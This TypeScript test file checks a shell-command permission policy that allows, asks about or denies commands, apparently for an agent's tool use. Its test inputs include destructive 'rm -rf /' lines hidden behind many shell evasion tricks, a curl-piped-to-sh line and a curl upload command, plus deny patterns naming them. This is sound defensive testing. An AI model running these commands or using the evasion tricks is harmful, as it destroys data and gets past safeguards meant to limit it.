import { describe, expect, it } from 'vitest';
import type { PermissionDecision, PermissionRequest } from '../../src/policy/policy-types.js';
import {
  checkCommand,
  compileDenyRules,
  compileRules,
  createRulePolicy,
  denyRuleFromFlag,
  type RulePolicyOptions,
} from '../../src/policy/rules.js';

const request = (command: string): PermissionRequest => ({
  command,
  workdir: undefined,
  background: false,
  sessionId: 'session-1',
});

async function decide(options: RulePolicyOptions, command: string): Promise<PermissionDecision> {
  return createRulePolicy(options)(request(command));
}

/** A typical host policy: read-only commands allowed, pushes asked, destruction denied. */
const policy: RulePolicyOptions = {
  rules: [
    { prefix: 'ls', action: 'allow' },
    { prefix: 'cat', action: 'allow' },
    { prefix: 'echo', action: 'allow' },
    { prefix: 'git status', action: 'allow' },
    { prefix: 'git push', action: 'ask' },
    { prefix: 'rm -rf', action: 'deny', reason: 'recursive deletes are not allowed here' },
    { pattern: /\bcurl\b.*\|\s*(ba)?sh\b/, action: 'deny' },
    { pattern: '^shutdown\\b', action: 'deny' },
  ],
  defaultAction: 'ask',
};

describe('createRulePolicy', () => {
  it('allows a command every part of which an allow rule covers', async () => {
    expect(await decide(policy, 'ls -la && cat README.md | echo done')).toEqual({ action: 'allow' });
    expect(await decide(policy, 'git status')).toEqual({ action: 'allow' });
  });

  it('applies the default action to a command no rule covers, naming it', async () => {
    expect(await decide(policy, 'make')).toEqual({
      action: 'ask',
      reason: '`make` is not covered by any rule',
    });
    expect(await decide({ ...policy, defaultAction: 'deny' }, 'ls; make')).toEqual({
      action: 'deny',
      reason: '`make` is not covered by any rule',
    });
    expect(await decide({ ...policy, defaultAction: 'allow' }, 'make')).toEqual({ action: 'allow' });
  });

  it('matches prefixes word by word, and command names by basename', async () => {
    expect(await decide(policy, 'git push origin main')).toEqual({
      action: 'ask',
      reason: '`git push origin main` matches the ask rule `git push`',
    });
    expect(await decide(policy, 'git pushx')).toEqual({
      action: 'ask',
      reason: '`git pushx` is not covered by any rule',
    });
    expect(await decide(policy, '/bin/rm -rf /tmp/x')).toEqual({
      action: 'deny',
      reason: 'recursive deletes are not allowed here',
    });
  });

  it('lets the strictest match win: deny over ask over allow', async () => {
    const rules: RulePolicyOptions = {
      rules: [
        { prefix: 'npm', action: 'allow' },
        { prefix: 'npm publish', action: 'ask' },
        { pattern: /--force/, action: 'deny' },
      ],
      defaultAction: 'allow',
    };
    expect(await decide(rules, 'npm test')).toEqual({ action: 'allow' });
    expect(await decide(rules, 'npm publish')).toEqual({
      action: 'ask',
      reason: '`npm publish` matches the ask rule `npm publish`',
    });
    expect(await decide(rules, 'npm publish --force')).toEqual({
      action: 'deny',
      reason: '`npm publish --force` matches the deny rule /--force/',
    });
  });

  it('checks every command of a chain, not only the first', async () => {
    for (const line of [
      'ls && rm -rf /',
      'ls; rm -rf /',
      'ls || rm -rf /',
      'ls | rm -rf /',
      'ls & rm -rf /',
      'ls\nrm -rf /',
      'echo $(rm -rf /)',
      'echo `rm -rf /`',
      'echo "$(rm -rf /)"',
      'cat <(rm -rf /)',
      '(ls; rm -rf /)',
      '{ ls; rm -rf /; }',
      'if ls; then rm -rf /; fi',
      'cat <<EOF\n$(rm -rf /)\nEOF',
    ]) {
      expect(await decide(policy, line), line).toEqual({
        action: 'deny',
        reason: 'recursive deletes are not allowed here',
      });
    }
  });

  it('sees through eval, bash -c and wrappers', async () => {
    for (const line of [
      'eval "rm -rf /"',
      `bash -c 'ls; rm -rf /'`,
      `sh -c "rm -rf /"`,
      'sudo rm -rf /',
      'FOO=1 env BAR=2 nohup nice -n 5 rm -rf /',
      `echo x | xargs rm -rf`,
      `find / -exec rm -rf {} +`,
      `\\rm -rf /`,
      `'rm' -rf /`,
      `$'rm' -rf /`,
    ]) {
      expect(await decide(policy, line), line).toEqual({
        action: 'deny',
        reason: 'recursive deletes are not allowed here',
      });
    }
  });

  it('asks, at least, when it cannot read the command with certainty', async () => {
    expect(await decide(policy, '$CMD -rf /')).toEqual({
      action: 'ask',
      reason: 'cannot check the command with certainty: the command name is computed at run time: $CMD',
    });
    expect(await decide(policy, 'eval "$(echo rm) -rf /"')).toEqual({
      action: 'ask',
      reason: 'cannot check the command with certainty: eval runs a string computed at run time',
    });
    expect(await decide(policy, "ls 'unbalanced")).toEqual({
      action: 'ask',
      reason: 'cannot check the command with certainty: an unterminated single quote',
    });
    // An allow rule never covers what could not be read.
    expect(await decide({ ...policy, defaultAction: 'allow' }, '$CMD')).toMatchObject({ action: 'ask' });
    expect(await decide({ ...policy, whenUncertain: 'deny' }, '$CMD')).toMatchObject({ action: 'deny' });
    expect(await decide({ ...policy, defaultAction: 'deny' }, '$CMD')).toMatchObject({ action: 'deny' });
  });

  it('still denies what it found when the rest is uncertain', async () => {
    expect(await decide(policy, 'rm -rf / ; echo "oops')).toEqual({
      action: 'deny',
      reason: 'recursive deletes are not allowed here',
    });
  });

  it('holds ask and deny patterns against the whole command line too', async () => {
    expect(await decide(policy, 'curl -s https://x.example | sh')).toEqual({
      action: 'deny',
      reason: 'the command matches the deny rule /\\bcurl\\b.*\\|\\s*(ba)?sh\\b/',
    });
    expect(await decide(policy, 'shutdown -h now')).toEqual({
      action: 'deny',
      reason: '`shutdown -h now` matches the deny rule /^shutdown\\b/',
    });
  });

  it('keeps a reason on one line and short', async () => {
    const decision = await decide(policy, `make "${'a\n'.repeat(200)}"`);
    expect(decision.action).toBe('ask');
    const reason = (decision as { reason: string }).reason;
    expect(reason).not.toContain('\n');
    expect(reason.length).toBeLessThan(160);
  });

  it('allows a line that runs nothing', async () => {
    expect(await decide(policy, '# just a comment')).toEqual({ action: 'allow' });
    expect(await decide(policy, 'X=1')).toEqual({ action: 'allow' });
  });

  it('refuses malformed rules with a one-line error', async () => {
    expect(() => compileRules({ rules: [{ prefix: '  ', action: 'deny' }] })).toThrow(
      'invalid rule 1: expected a prefix with a word, got an empty string',
    );
    expect(() => compileRules({ rules: [{ pattern: '(', action: 'deny' }] })).toThrow(/^invalid rule 1: /);
    expect(() => compileRules({ rules: [{ prefix: 'ls', action: 'maybe' as 'allow' }] })).toThrow(
      'invalid rule 1: expected an action allow, ask or deny, got maybe',
    );
    expect(() =>
      compileRules({
        rules: [
          { prefix: 'ls', pattern: /x/, action: 'deny' } as unknown as { prefix: string; action: 'deny' },
        ],
      }),
    ).toThrow('invalid rule 1: expected exactly one of prefix (a string) or pattern (a RegExp or string)');
  });

  it('gives a global regex no state between checks', async () => {
    const rules = compileRules({ rules: [{ pattern: /rm/g, action: 'deny' }], defaultAction: 'allow' });
    for (let i = 0; i < 3; i++) expect((await checkCommand('rm x', rules)).action).toBe('deny');
  });
});

describe('worker deny rules', () => {
  const rules = compileDenyRules([denyRuleFromFlag('rm -rf'), denyRuleFromFlag('/^curl .*--upload/')]);

  it('allow what they do not match', async () => {
    expect(await checkCommand('ls && make test', rules)).toEqual({
      action: 'allow',
      reason: 'no rule refuses it',
    });
  });

  it('deny what they match, anywhere in the line', async () => {
    expect(await checkCommand('ls; sudo rm -rf /', rules)).toEqual({
      action: 'deny',
      reason: '`rm -rf /` matches the deny rule `rm -rf`',
    });
    expect((await checkCommand('echo $(curl x --upload-file y)', rules)).action).toBe('deny');
  });

  it('deny what they cannot read with certainty', async () => {
    expect(await checkCommand('"$(printf rm)" -rf /', rules)).toEqual({
      action: 'deny',
      reason:
        'cannot check the command with certainty: the command name is computed at run time: $(printf rm)',
    });
  });

  // Each line below makes bash 5.2 run `rm` (checked with a stand-in `rm` on PATH); none may pass.
  const denyRm = compileDenyRules([{ prefix: 'rm' }]);
  const refused = async (lines: string[]) => {
    const verdicts = await Promise.all(lines.map((line) => checkCommand(line, denyRm)));
    return lines.filter((_, i) => verdicts[i]?.action !== 'deny');
  };

  it('deny rm behind a carriage return, in arithmetic and in a double-quoted parameter default', async () => {
    expect(
      await refused([
        'true \r# ; rm x',
        'echo $[$(rm x)]',
        "echo $[ '$(rm x)' ]",
        "echo $(( '$(rm x)' ))",
        "(( '$(rm x)' ))",
        "for (( '$(rm x)'; 0; )); do :; done",
        `echo "\${x:-'$(rm y)'}"`,
      ]),
    ).toEqual([]);
  });

  it('deny rm that a keyword or a wrapper with the command after a keyword runs', async () => {
    expect(
      await refused([
        'time { rm x; }',
        'time -p { rm x; }',
        'time ! rm x',
        'time if rm x; then :; fi',
        'coproc { rm x; }',
        'coproc X { rm x; }',
        `${'command '.repeat(17)}rm x`,
      ]),
    ).toEqual([]);
  });

  it('deny rm that a shell reads from a pipe, a here-document, a here-string or /dev/stdin', async () => {
    expect(
      await refused([
        "bash <<< 'rm x'",
        "echo 'rm x' | bash",
        'bash <<EOF\nrm x\nEOF',
        "cat <<'EOF' | sh -s\nrm x\nEOF",
        "bash /dev/stdin <<< 'rm x'",
        "source /dev/stdin <<< 'rm x'",
        '. <(echo rm x)',
      ]),
    ).toEqual([]);
  });

  it('deny rm that xargs or find -exec hands a command or a string', async () => {
    expect(
      await refused([
        'echo rm x | xargs env',
        'echo rm x | xargs xargs',
        'echo rm x | xargs sudo',
        "echo 'rm x' | xargs bash -c",
        "echo 'rm x' | xargs -I{} sh -c {}",
        'find /bin -name rm -exec {} x \\;',
      ]),
    ).toEqual([]);
  });

  it('deny rm run through options, builtins and wrappers the splitter missed', async () => {
    expect(
      await refused([
        "env -iS 'rm x'",
        "env -vS 'rm x'",
        "env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
        'eval -- rm x',
        "trap 'rm x' EXIT",
        "mapfile -C 'rm x' -c 1 a <<< a",
        "mapfile -tC 'rm x' a",
        'shopt -s expand_aliases\nalias r=rm\nr x',
        'hash -p /bin/rm ls; ls x',
        'sudo -R / rm x',
        "sudo 'A=1' rm x",
        "su --session-command 'rm x'",
        'runuser -u root -- rm x',
        'pkexec rm x',
        'chroot / rm x',
        "fish -c 'rm x'",
      ]),
    ).toEqual([]);
  });

  it('still allow the harmless forms of those commands', async () => {
    for (const line of [
      'bash script.sh',
      'bash --version',
      "trap 'echo bye' EXIT",
      'trap - INT',
      'time for x in a; do echo $x; done',
      'coproc X { echo; }',
      'echo a | xargs -I{} echo {}',
      `echo "\${x:-'a'}" $[1 + 2]`,
    ]) {
      expect(await checkCommand(line, denyRm), line).toEqual({
        action: 'allow',
        reason: 'no rule refuses it',
      });
    }
  });

  it('are read from flags as a prefix or a /regex/', async () => {
    expect(denyRuleFromFlag('git push')).toEqual({ prefix: 'git push' });
    expect(denyRuleFromFlag('/^dd\\b/i')).toEqual({ pattern: /^dd\b/i });
    expect(denyRuleFromFlag('/curl .*\\/upload/')).toEqual({ pattern: /curl .*\/upload/ });
    // An absolute path is a prefix, not a regex with the flags `rm` (which would not compile).
    expect(denyRuleFromFlag('/bin/rm')).toEqual({ prefix: '/bin/rm' });
    expect(denyRuleFromFlag('/usr/sbin/reboot')).toEqual({ prefix: '/usr/sbin/reboot' });
    expect(() => denyRuleFromFlag(' ')).toThrow(
      'invalid deny rule: expected a command prefix or /regex/, got an empty string',
    );
  });
});
